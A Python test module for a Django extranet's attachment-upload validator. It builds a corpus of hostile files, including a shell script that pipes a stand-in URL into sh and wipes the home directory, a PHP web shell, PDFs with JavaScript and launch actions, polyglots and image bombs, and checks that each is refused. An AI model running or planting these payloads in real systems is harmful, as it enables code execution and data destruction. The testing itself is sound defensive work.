"""A corpus of hostile files posted as a partner would: each refused with a message naming it, nothing stored.

Benign controls at the end must go through, so the corpus cannot pass by refusing everything.
"""

import gzip
import html
import io
import re
import zipfile
import zlib

import pikepdf
import pytest
from django.conf import settings
from django.http import QueryDict
from PIL import Image

from extranet.core.pdf import render_pdf
from requests import attachments, mas
from requests.attachments import clean_original_name
from requests.models import Attachment, Request
from tests.requests.builders import (
    PAGES,
    PDF_HEAD,
    create_url,
    form_data,
    image_bytes,
    pdf_bytes,
    pdf_document,
    upload,
)

SLUG = "etude-de-dossier"
STORED_NAME = re.compile(r"^attachments/\d{4}/\d{2}/[0-9a-f]{32}\.(pdf|png|jpg|jpeg)$")

# --- hostile contents -------------------------------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56) + b"\x90" * 200
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"This program cannot be run in DOS mode.\r\n" * 4
SHELL = b"#!/bin/sh\ncurl -s https://exemple.invalid/x | sh\nrm -rf ~/*\n"
PYTHON = b"#!/usr/bin/env python3\nimport os\nos.system('id > /tmp/pwned')\n"
PHP = b"<?php system($_GET['c']); ?>\n"
HTML = b"<!doctype html><html><body><script>fetch('/demandes/').then(r => r.text())</script></body></html>"
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.cookie)</script></svg>"
)
PNG = image_bytes("PNG", size=(16, 16))
JPEG = image_bytes("JPEG", size=(16, 16))


def zip_bytes(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


ZIP = zip_bytes({"facture.exe": MZ, "lisez-moi.txt": "Ouvrez facture.exe"})
DOCX = zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
XLSX = zip_bytes({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(64)
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64)
GZIP = gzip.compress(MZ)


def pdf_with(catalog_extra, *objects):
    """A PDF that a viewer reads without repairing it, whose catalog carries the given entries; `objects` are numbered
    from 3."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>"
    return pdf_document({1: catalog, 2: PAGES} | dict(enumerate(objects, start=3)))


JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
HUGE_PAGE = zlib.compress(bytes(40 * 1024 * 1024), 9)  # inflates to 40 MB


def pdf_object_stream(hidden, *, hex_encoded=False, page_stream=b"", packed=None):
    """A PDF whose catalog (object 1) sits in an object stream, found through a cross-reference stream: invisible to
    a scan of the raw bytes. Deflated (or `packed`, already deflated), or written in hexadecimal (/ASCIIHexDecode);
    after `page_stream` (deflated) if given."""
    packed_catalog = b"<< /Type /Catalog /Pages 2 0 R " + hidden + b" >>"
    index = b"1 0 "
    content = index + packed_catalog
    encoded = packed or (content.hex().encode() + b">" if hex_encoded else zlib.compress(content))
    filter_name = b"/ASCIIHexDecode" if hex_encoded else b"/FlateDecode"
    out = bytearray(PDF_HEAD)
    offsets = {}
    offsets[2] = len(out)
    out += b"2 0 obj\n" + PAGES + b"\nendobj\n"
    offsets[3] = len(out)
    out += b"3 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream\nendobj\n" % (
        len(page_stream or zlib.compress(b"")),
        page_stream or zlib.compress(b""),
    )
    offsets[4] = len(out)
    out += b"4 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(index),
        filter_name,
        len(encoded),
        encoded,
    )
    offsets[5] = len(out)
    rows = [b"\x00" + bytes(4) + b"\xff\xff", b"\x02" + (4).to_bytes(4, "big") + (0).to_bytes(2, "big")]
    rows += [b"\x01" + offsets[n].to_bytes(4, "big") + bytes(2) for n in (2, 3, 4, 5)]
    table = b"".join(rows)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[5]
    return bytes(out)


def png_claiming(width, height):
    """A few hundred bytes whose header announces width × height pixels: an image "bomb"."""

    def chunk(kind, data):
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(200))) + chunk(b"IEND", b"")
    )


def jpeg_claiming(width, height):
    """A small JPEG whose frame header (SOF0) announces width × height pixels."""
    start = JPEG.index(b"\xff\xc0") + 5  # marker, segment length, precision
    return JPEG[:start] + height.to_bytes(2, "big") + width.to_bytes(2, "big") + JPEG[start + 4 :]


PNG_BOMB = png_claiming(20000, 10000)
JPEG_BOMB = jpeg_claiming(65000, 65000)


def jpeg_with_comment(comment):
    """A JPEG whose COM segment (right after SOI) carries the given text: Pillow still verifies it."""
    segment = b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment
    return JPEG[:2] + segment + JPEG[2:]


def png_with_text(text):
    chunk_data = b"Comment\x00" + text
    chunk = len(chunk_data).to_bytes(4, "big") + b"tEXt" + chunk_data
    chunk += zlib.crc32(b"tEXt" + chunk_data).to_bytes(4, "big")
    return PNG[:33] + chunk + PNG[33:]  # after the 8-byte signature and the 25-byte IHDR chunk


def other_image(fmt):
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 120, 200)).save(buffer, format=fmt)
    return buffer.getvalue()


OVERSIZED = pdf_bytes() + b"%" + b"x" * settings.ATTACHMENT_MAX_SIZE + b"\n%%EOF\n"

HOSTILE = [
    # executables and scripts renamed as accepted types
    ("ordonnance.pdf", ELF, "elf-as-pdf"),
    ("photo.png", ELF, "elf-as-png"),
    ("attestation.pdf", MZ, "pe-as-pdf"),
    ("scan.jpg", MZ, "pe-as-jpg"),
    ("releve.pdf", SHELL, "shell-as-pdf"),
    ("photo.jpeg", SHELL, "shell-as-jpeg"),
    ("courrier.pdf", PYTHON, "python-as-pdf"),
    ("image.png", PHP, "php-as-png"),
    # markup with script, renamed or under its own extension
    ("page.pdf", HTML, "html-as-pdf"),
    ("page.png", HTML, "html-as-png"),
    ("page.html", HTML, "html"),
    ("page.htm", HTML, "htm"),
    ("logo.svg", SVG, "svg"),
    ("logo.png", SVG, "svg-as-png"),
    ("logo.jpg", SVG, "svg-as-jpg"),
    # PDF carrying JavaScript, launch actions or files
    ("js.pdf", pdf_with(b"/OpenAction " + JS_ACTION), "pdf-openaction-javascript"),
    ("js-hex.pdf", pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "pdf-javascript-hex"),
    ("names.pdf", pdf_with(b"/Names << /JavaScript 3 0 R >>", b"<< /Names [(x) 4 0 R] >>", JS_ACTION), "pdf-js-names"),
    ("aa.pdf", pdf_with(b"/AA << /O << /S /JavaScript /JS 3 0 R >> >>", b"(app.alert(1))"), "pdf-additional-action"),
    ("launch.pdf", pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf-launch"),
    ("lance.pdf", pdf_with(b"/OpenAction << /S /L#61unch /F (calc.exe) >>"), "pdf-launch-hex"),
    ("embarque.pdf", pdf_with(b"/Names << /EmbeddedFiles 3 0 R >>", b"<< /Names [] >>"), "pdf-embedded-files"),
    (
        "piece.pdf",
        pdf_with(b"", b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
        "pdf-embedded-file",
    ),
    ("action.pdf", pdf_with(b"/OpenAction << /S /URI /URI (https://exemple.invalid) >>"), "pdf-openaction-uri"),
    (
        "indirect.pdf",
        pdf_with(b"/OpenAction 3 0 R", b"<< /S /URI /URI (https://exemple.invalid) >>"),
        "pdf-openaction-ref",
    ),
    ("cache.pdf", pdf_object_stream(b"/OpenAction " + JS_ACTION), "pdf-javascript-object-stream"),
    ("hexa.pdf", pdf_object_stream(b"/OpenAction " + JS_ACTION, hex_encoded=True), "pdf-javascript-hex-object-stream"),
    ("loin.pdf", pdf_object_stream(b"/OpenAction " + JS_ACTION, page_stream=HUGE_PAGE), "pdf-js-after-40-mb-stream"),
    ("xfa.pdf", pdf_with(b"/AcroForm << /Fields [] /XFA 3 0 R >>", b"[(template) 4 0 R]", b"(<xdp/>)"), "pdf-xfa"),
    (
        "media.pdf",
        pdf_with(b"", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>"),
        "pdf-rich-media",
    ),
    ("distant.pdf", pdf_with(b"", b"<< /S /GoToR /F (autre.pdf) /D [0 /Fit] >>"), "pdf-goto-remote"),
    ("envoi.pdf", pdf_with(b"", b"<< /S /SubmitForm /F (https://exemple.invalid/) >>"), "pdf-submit-form"),
    ("import.pdf", pdf_with(b"", b"<< /S /ImportData /F (donnees.fdf) >>"), "pdf-import-data"),
    # polyglots
    ("gifar.png", PNG + ZIP, "png-then-zip"),
    ("gifar.jpg", JPEG + ZIP, "jpeg-then-zip"),
    ("image.png", PNG + HTML, "png-then-html"),
    ("image.jpg", JPEG + HTML, "jpeg-then-html"),
    ("commentaire.jpg", jpeg_with_comment(PHP), "jpeg-php-comment"),
    ("commentaire.jpeg", jpeg_with_comment(HTML), "jpeg-html-comment"),
    ("texte.png", png_with_text(HTML), "png-html-text-chunk"),
    ("precede.pdf", HTML + pdf_bytes(), "html-then-pdf"),
    ("mz.pdf", b"%PDF-1.4\n" + MZ + b"\n%%EOF\n", "polyglot-pdf-header-exe"),
    ("page.pdf", b"%PDF-1.4\n" + HTML + b"\n%%EOF\n", "polyglot-pdf-header-html"),
    (
        "entete.pdf",
        pdf_document({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PAGES}, head=b"%PDF-1.7\n%" + HTML + b"\n"),
        "polyglot-pdf-html-in-head",
    ),
    ("suivi.pdf", pdf_bytes() + HTML, "polyglot-pdf-then-html"),
    ("archive.pdf", pdf_bytes() + ZIP, "polyglot-pdf-then-zip"),
    (
        "archive2.pdf",
        pdf_bytes() + ZIP + pdf_bytes()[pdf_bytes().rindex(b"startxref") :],
        "polyglot-pdf-zip-then-trailer",
    ),
    # images announcing billions of pixels
    ("bombe.png", PNG_BOMB, "png-bomb"),
    ("bombe.jpg", JPEG_BOMB, "jpeg-bomb"),
    # archives renamed .pdf (or as themselves)
    ("dossier.pdf", ZIP, "zip-as-pdf"),
    ("courrier.pdf", DOCX, "docx-as-pdf"),
    ("tableau.pdf", XLSX, "xlsx-as-pdf"),
    ("archive.pdf", RAR, "rar-as-pdf"),
    ("archive7.pdf", SEVEN_ZIP, "7z-as-pdf"),
    ("compresse.pdf", GZIP, "gzip-as-pdf"),
    ("dossier.zip", ZIP, "zip"),
    ("courrier.docx", DOCX, "docx"),
    # empty, oversized, truncated
    ("vide.pdf", b"", "empty-pdf"),
    ("vide.png", b"", "empty-png"),
    ("vide.jpg", b"", "empty-jpg"),
    ("enorme.pdf", OVERSIZED, "oversized-pdf"),
    ("tronque.png", image_bytes("PNG", size=(64, 64))[:60], "truncated-png"),
    ("tronque.jpg", image_bytes("JPEG", size=(64, 64))[:200], "truncated-jpeg"),
    ("tronque.pdf", pdf_bytes()[:-8], "truncated-pdf"),
    # content and extension disagree
    ("photo.jpg", PNG, "png-as-jpg"),
    ("photo.png", JPEG, "jpeg-as-png"),
    ("scan.png", pdf_bytes(), "png-name-pdf-content"),
    ("scan.pdf", PNG, "png-as-pdf"),
    ("anime.png", other_image("GIF"), "gif-as-png"),
    ("carte.jpg", other_image("BMP"), "bmp-as-jpg"),
    ("scan.jpg", other_image("TIFF"), "tiff-as-jpg"),
    # double extensions
    ("facture.pdf.exe", MZ, "double-extension-exe"),
    ("facture.exe.pdf", MZ, "double-extension-exe-pdf"),
    ("photo.png.html", HTML, "double-extension-html"),
    # path traversal (the content decides; the stored name is generated anyway)
    ("../../etc/passwd.pdf", ELF, "traversal-unix"),
    ("..\\..\\windows\\win.ini.pdf", b"[fonts]\r\n", "traversal-windows"),
    ("/etc/cron.d/tache.pdf", SHELL, "traversal-absolute"),
    # right-to-left override
    ("facture\u202efdp.exe", MZ, "rtlo-exe"),
    ("rapport\u202egnp.pdf", MZ, "rtlo-pdf-with-exe"),
    ("photo\u202egpj.png", HTML, "rtlo-png-with-html"),
    # NUL bytes, very long names, only dots
    ("facture.pdf\x00.exe", MZ, "nul-byte-exe"),
    ("photo\x00.png", HTML, "nul-byte-png"),
    ("a" * 300 + ".pdf", ELF, "long-name-pdf"),
    ("b" * 300 + ".exe", MZ, "long-name-exe"),
    ("...", pdf_bytes(), "only-dots"),
    ("....pdf", MZ, "dots-then-pdf"),
]

# Why each case is refused (the error code); every other case is refused for its content.
REFUSED_BY = {
    "file_extension": {
        "html",
        "htm",
        "svg",
        "zip",
        "docx",
        "double-extension-exe",
        "double-extension-html",
        "rtlo-exe",
        "nul-byte-exe",
        "long-name-exe",
        "only-dots",
        "dots-then-pdf",
    },
    "file_empty": {"empty-pdf", "empty-png", "empty-jpg"},
    "file_size": {"oversized-pdf"},
    "file_active_content": {case_id for _, _, case_id in HOSTILE if case_id.startswith("pdf-")},
    "image_too_large": {"png-bomb", "jpeg-bomb"},
    "file_payload": {
        "png-then-zip",
        "jpeg-then-zip",
        "png-then-html",
        "jpeg-then-html",
        "jpeg-php-comment",
        "jpeg-html-comment",
        "png-html-text-chunk",
    },
}
CODE_OF = {case_id: code for code, case_ids in REFUSED_BY.items() for case_id in case_ids}


def deposit(client, *files):
    return client.post(create_url(SLUG), form_data(SLUG, files=list(files)))


def files_under(folder):
    return [path for path in folder.rglob("*") if path.is_file()]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "code"), [pytest.param(n, c, CODE_OF.get(i, "file_content"), id=i) for n, c, i in HOSTILE]
)
def test_hostile_file_is_refused(technicien_client, stored_files, tmp_path, mailoutbox, name, content, code):
    response = deposit(technicien_client, upload(name, content, "application/pdf"))

    assert response.status_code == 200, "the deposit went through"
    errors = response.context["form"].errors["attachments"]
    shown = clean_original_name(name)
    assert len(errors) == 1 and errors[0].startswith(f"« {shown} »"), errors
    assert response.context["form"].errors.as_data()["attachments"][0].code == code
    assert shown in html.unescape(response.content.decode())
    assert errors[0] in html.unescape(response.content.decode())
    assert not Request.objects.exists() and not Attachment.objects.exists()
    assert stored_files() == [] and files_under(tmp_path) == [] and mailoutbox == []


def test_corpus_is_large_and_distinct():
    assert len(HOSTILE) >= 50
    assert len({case_id for _, _, case_id in HOSTILE}) == len(HOSTILE)
    assert len({(name, content) for name, content, _ in HOSTILE}) == len(HOSTILE)


def progressive_jpeg_with_exif():
    buffer = io.BytesIO()
    image = Image.effect_noise((64, 48), 60).convert("RGB")
    exif = image.getexif()
    exif[0x010F] = "Fabricant"
    image.save(buffer, format="JPEG", exif=exif, progressive=True)
    return buffer.getvalue()


BENIGN = [
    ("justificatif.pdf", pdf_bytes(), "pdf"),
    ("capture.png", image_bytes("PNG", size=(32, 24)), "png"),
    ("photo.jpg", image_bytes("JPEG", size=(32, 24)), "jpeg"),
    ("photo.jpeg", progressive_jpeg_with_exif(), "progressive-jpeg-exif"),
    ("FACTURE.PDF", pdf_bytes(), "uppercase-extension"),
    ("Relevé d'activité – Éloïse.pdf", pdf_bytes(), "accented-name"),
    ("vue.pdf", pdf_with(b"/OpenAction [3 0 R /Fit]"), "pdf-opening-view"),
    ("../../etc/passwd.pdf", pdf_bytes(), "traversal-name-real-pdf"),
    ("rapport\u202egnp.pdf", pdf_bytes(), "rtlo-name-real-pdf"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "content"), [pytest.param(n, c, id=i) for n, c, i in BENIGN])
def test_benign_file_is_accepted(technicien_client, stored_files, private_media, tmp_path, name, content):
    response = deposit(technicien_client, upload(name, content, "application/pdf"))

    assert response.status_code == 302, response.context["form"].errors if response.context else response
    attachment = Attachment.objects.get()
    assert attachment.original_name == clean_original_name(name)
    assert "\u202e" not in attachment.original_name and "/" not in attachment.original_name
    [stored] = stored_files()
    assert STORED_NAME.match(stored), stored
    assert clean_original_name(name).rsplit(".", 1)[0].lower() not in stored.lower()
    assert files_under(tmp_path) == [private_media / stored]
    assert (private_media / stored).read_bytes() == content


def pikepdf_document():
    """A PDF as current software writes it: compressed object streams and cross-reference stream, a link."""
    document = pikepdf.new()
    document.add_blank_page()
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[10, 10, 100, 30],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.ameli.fr/")),
    )
    document.pages[0].Annots = document.make_indirect(pikepdf.Array([link]))
    buffer = io.BytesIO()
    document.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return buffer.getvalue()


@pytest.mark.django_db
def test_real_pdfs_are_accepted(technicien_client, demande, stored_files):
    """Our own WeasyPrint documents (the request's summary, the MAS sheet to have signed) and a PDF with object
    streams and a link go through the real parser."""
    summary = technicien_client.get(f"/demandes/{demande.number}/recapitulatif.pdf").getvalue()
    sheet = render_pdf("requests/pdf/mas_sheet.html", mas.sheet_values(QueryDict()))
    files = [("recapitulatif.pdf", summary), ("fiche.pdf", sheet), ("moderne.pdf", pikepdf_document())]
    for name, content in files:
        assert content.startswith(b"%PDF-")
        response = technicien_client.post(
            f"/demandes/{demande.number}/messages/", {"body": "Ci-joint.", "attachments": [upload(name, content)]}
        )
        assert response.status_code == 302, response.context["message_form"].errors if response.context else ""
    assert sorted(Attachment.objects.values_list("original_name", flat=True)) == sorted(name for name, _ in files)
    assert len(stored_files()) == 3


def deflated_object_stream_bomb(megabytes):
    """The catalog in an object stream followed by `megabytes` of blanks, deflated (about 5 KB per MB)."""
    packer = zlib.compressobj(1)
    parts = [packer.compress(b"1 0 << /Type /Catalog /Pages 2 0 R >>")]
    blanks = b" " * 1024 * 1024
    parts += [packer.compress(blanks) for _ in range(megabytes)]
    return b"".join([*parts, packer.flush()])


@pytest.mark.django_db
def test_object_stream_inflating_beyond_the_memory_bound_is_refused(technicien_client, stored_files, monkeypatch):
    """qpdf decodes object streams whole to read their objects: read in a child process whose memory is bounded
    (768 MB beyond what the server maps; 64 MB here, for a test-sized bomb), a bomb is refused instead of taking the
    server's memory."""
    monkeypatch.setattr(attachments, "PDF_READING_MEMORY", 64 * 1024 * 1024)
    bomb = pdf_object_stream(b"", packed=deflated_object_stream_bomb(128))
    assert len(bomb) < settings.ATTACHMENT_MAX_SIZE

    response = deposit(technicien_client, upload("bombe.pdf", bomb))

    assert response.context["form"].errors.as_data()["attachments"][0].code == "file_content"
    assert not Request.objects.exists() and stored_files() == []
